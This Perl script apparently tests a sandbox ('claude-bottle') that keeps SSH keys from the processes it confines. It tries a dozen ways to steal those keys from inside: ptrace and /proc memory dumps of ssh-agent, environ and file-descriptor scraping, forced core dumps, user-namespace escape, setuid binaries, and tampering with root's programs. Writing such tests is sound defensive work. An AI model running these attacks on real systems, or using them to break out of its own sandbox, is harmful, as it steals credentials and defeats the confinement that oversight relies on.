#!/usr/bin/perl
# Everything that a process in a bottle may try in order to get at the keys, told to run with words of
#
#   ptrace mem process_vm environ fd core socket userns files setuid preload replace signals race
#
# and `watch SECONDS`, which runs while keys are loaded and whose finds `race` tells. Prints a line for each thing
# got, `loot ATTEMPT PID ADDRESS HEX`, and for each attempt what it came to: `tried ATTEMPT TIMES LAST-ERROR`.
# Where a state that is not ours could be changed, the loot is one word in capitals, which stands nowhere else.
use strict;
use warnings;
no warnings 'portable';
use Fcntl qw(:DEFAULT :mode);
use POSIX ();
use Socket;
use Time::HiRes qw(time);

my $DIRECTORY = '/run/claude-bottle';
my %SYSCALL = ((POSIX::uname())[4] eq 'x86_64' ? (ptrace => 101, readv => 310) : (ptrace => 117, readv => 270));
my $WATCHED = '/tmp/watched';
my $STOLEN = '/tmp/stolen';
my ($PROGRAMS, $LARGEST) = ('/usr/local/lib/claude-bottle', 4 << 20);
my ($attempt, $tried, $error) = ('', 0, '');
$| = 1;

sub loot {
    my ($pid, $address, $bytes) = @_;
    printf "loot %s %d %x %s\n", $attempt, $pid, $address, unpack('H*', $bytes) if length $bytes;
}

# What came of one thing tried: true when it worked.
sub came { my ($ok) = @_; $tried++; $error = "$!" unless $ok; return $ok }
sub taken { loot(0, 0, join '', 'TAK', 'EN') }

sub contents {
    my ($path) = @_;
    came(open(my $file, '<:raw', $path)) or return '';
    my $bytes = '';
    sysread($file, $bytes, $LARGEST, length $bytes) or return $bytes for 1 .. 4;
    return $bytes;
}

sub is_regular { my $mode = (stat $_[0])[2]; return defined $mode && S_ISREG($mode) }

# The ssh-agent and the relay, whose memory holds a key only as OpenSSH hides it; and a process that just has it.
sub targets {
    my ($names) = map { qr/$_/ } '^ssh-agent|ssh_relay' . join '', map { "|^$_" } @_;
    my @pids = map { /(\d+)/ } glob('/proc/[0-9]*');
    my @found;
    for my $pid (@pids) {
        open(my $file, '<', "/proc/$pid/cmdline") or next;
        my $argv = <$file> // '';
        push @found, $pid if $pid != $$ && $pid != getppid() && $argv =~ $names;
    }
    return @found;
}

# [from, length] of what a process can write to and no file is behind, without what only a large program has.
sub regions {
    my ($pid) = @_;
    my @regions;
    for (split /\n/, contents("/proc/$pid/maps")) {
        next unless m{^([0-9a-f]+)-([0-9a-f]+) rw[^/]*$};
        my ($from, $to) = (hex $1, hex $2);
        push @regions, [$from, $to - $from] if $to - $from <= $LARGEST;
    }
    return @regions;
}

my %attempt = (
    ptrace => sub {
        for my $pid (targets()) {
            came(syscall($SYSCALL{ptrace}, 16, $pid, 0, 0) == 0) or next;
            waitpid($pid, 0);
            for (regions($pid)) {
                my ($from, $length) = @$_;
                my $bytes = '';
                for (my $at = $from; $at < $from + $length; $at += 8) {
                    my $word = "\0" x 8;
                    last if syscall($SYSCALL{ptrace}, 2, $pid, $at, $word) != 0;
                    $bytes .= $word;
                }
                loot($pid, $from, $bytes);
            }
            syscall($SYSCALL{ptrace}, 17, $pid, 0, 0);
        }
    },
    mem => sub {
        for my $pid (targets()) {
            came(open(my $memory, '<:raw', "/proc/$pid/mem")) or next;
            for (regions($pid)) {
                my ($from, $length) = @$_;
                sysseek($memory, $from, 0);
                sysread($memory, my $bytes, $length);
                loot($pid, $from, $bytes // '');
            }
        }
    },
    process_vm => sub {
        for my $pid (targets()) {
            # Without a map of it: where a program without a random address would be.
            my @regions = regions($pid);
            for (@regions ? @regions : [5 << 44, 4096]) {
                my ($from, $length) = @$_;
                my $bytes = "\0" x $length;
                my $here = pack('Q Q', unpack('Q', pack('P', $bytes)), $length);
                my $there = pack('Q Q', $from, $length);
                came(syscall($SYSCALL{readv}, $pid, $here, 1, $there, 1, 0) > 0) and loot($pid, $from, $bytes);
            }
        }
    },
    environ => sub { loot($_, 0, contents("/proc/$_/environ")) for targets('holder') },
    fd => sub {
        for my $pid (targets('holder')) {
            for my $place (map { glob("/proc/$pid/$_") } 'fd/*', 'root/run/claude-bottle/private/*', 'cwd/core*') {
                loot($pid, 0, contents($place)) if is_regular($place);
            }
            came(opendir(my $folder, "/proc/$pid/fd"));
        }
    },
    core => sub {
        for my $pid (targets('holder')) {
            my $cwd = readlink "/proc/$pid/cwd";
            came(kill 'ABRT', $pid);
            select(undef, undef, undef, 0.3);
            for my $path (map { glob("$_/core*") } grep { defined } '', '/tmp', $cwd, $DIRECTORY, '/home/node') {
                loot($pid, 0, contents($path)) if is_regular($path);
            }
        }
    },
    socket => sub { ask_directly() },
    userns => sub {
        my $answer = `unshare -Ur perl '$0' socket 2>&1`;
        $answer =~ /^loot socket (.*)/m and print "loot userns $1\n";
        $tried++;
        $error = $1 if $answer =~ /^tried socket [0-9]+ (.+)/m || $answer =~ /^(unshare: .*)/m;
    },
    files => sub {
        my @paths = ('/run', '/tmp', '/var/tmp', '/dev/shm', '/home', '/root', '/etc/ssh', '/srv');
        while (defined(my $path = shift @paths)) {
            next if -l $path || $path eq $WATCHED || $path eq $STOLEN;
            if (-d _) {
                came(opendir(my $folder, $path)) or next;
                push @paths, map { "$path/$_" } grep { !/^\.\.?$/ } readdir $folder;
            } elsif (-f _) {
                loot(0, 0, contents($path));
            }
        }
    },
    setuid => sub {
        for my $program (split /\n/, `find / -xdev -type f -perm /6000 2>/dev/null`) {
            $tried++;
            # Whatever it does with it: it is given what only root may read.
            loot(0, 0, scalar `timeout 2 '$program' $DIRECTORY/private/left 2>&1 </dev/null`);
        }
    },
    preload => sub {
        loot(0, 0, contents($STOLEN)) if -e $STOLEN;
        # What root's programs are and load.
        for my $path ("$PROGRAMS/ssh_agent.pl", "$PROGRAMS/ssh_relay.pl", '/usr/bin/ssh-add', '/usr/bin/perl') {
            came(sysopen(my $file, $path, O_WRONLY)) and taken();
        }
        for my $path (map { "$_/thief" } '/etc', '/lib', grep { -d && !m{^/home/} } @INC) {
            came(sysopen(my $file, $path, O_WRONLY | O_CREAT)) and taken() and unlink($path);
        }
    },
    replace => sub {
        for my $path ($DIRECTORY, "$DIRECTORY/ssh.sock", "$DIRECTORY/private", glob("$DIRECTORY/*.pub"), $PROGRAMS) {
            came(rename($path, "$path.moved")) and taken() and rename("$path.moved", $path);
            came(symlink('/tmp', "$path.link")) and taken() and unlink("$path.link");
            came(chmod((stat $path)[2] & 07777, $path)) and taken() if -e $path;
        }
    },
    signals => sub {
        for my $pid (targets()) {
            for my $signal (qw(STOP CONT HUP USR1 ABRT TERM KILL)) {
                came(kill $signal, $pid) and taken();
                # Enough is proved by one that can be taken back.
                last if kill 'CONT', $pid;
            }
        }
    },
    race => sub { loot(0, 0, contents($WATCHED)) },
);

# The ssh-agent's list, asked where only root may.
sub ask_directly {
    socket(my $socket, PF_UNIX, SOCK_STREAM, 0) or return;
    came(connect($socket, pack_sockaddr_un("$DIRECTORY/private/agent.sock"))) or return;
    syswrite($socket, pack('N C', 1, 11));
    came(sysread($socket, my $answer, 65536)) and taken();
}

# As fast as it can: every file of the ssh-agent's folder, and of every process what is open and what it was given.
sub watch {
    my ($seconds) = @_;
    my %seen;
    open(my $out, '>>:raw', $WATCHED) or die "$WATCHED: $!\n";
    syswrite($out, "watched\n");
    for (my $end = time + $seconds; time < $end;) {
        for my $path (glob("$DIRECTORY/* $DIRECTORY/private/* /proc/[0-9]*/environ /proc/[0-9]*/fd/*")) {
            # What is written here would be read again.
            next if $path =~ m{^/proc/$$/} || !is_regular($path);
            my $bytes = contents($path);
            syswrite($out, $bytes) unless $seen{$bytes}++;
        }
    }
}

if (@ARGV && $ARGV[0] eq 'watch') { watch($ARGV[1]) }
else {
    for (@ARGV) {
        ($attempt, $tried, $error) = ($_, 0, '');
        $attempt{$_}->();
        $error =~ s/\s+/ /g;
        print "tried $attempt $tried $error\n";
    }
}
